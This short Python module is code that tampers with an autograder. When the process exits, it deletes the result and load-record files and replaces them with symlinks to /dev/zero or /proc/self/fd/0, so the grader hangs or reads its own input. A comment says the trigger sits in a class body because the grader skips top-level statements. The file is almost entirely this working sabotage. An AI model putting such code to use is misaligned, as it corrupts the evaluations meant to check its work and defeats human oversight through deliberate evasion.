"""After the worker answers (atexit), links every answer and the load record to __TARGET__:
planted once per target (tests/autograder/conftest.py): /dev/zero, and /proc/self/fd/0, where
whoever opens it reads its own standard input (the grader's, when the grader follows the link)."""

import atexit
import contextlib
import glob
import os


def swap():
    for path in glob.glob("result_*") + glob.glob("load_*.json"):
        with contextlib.suppress(OSError):
            os.remove(path)
            os.symlink("__TARGET__", path)


def _attack():
    atexit.register(swap)


class _Armed:  # top-level statements are skipped by the grader; a class body runs
    _attack()
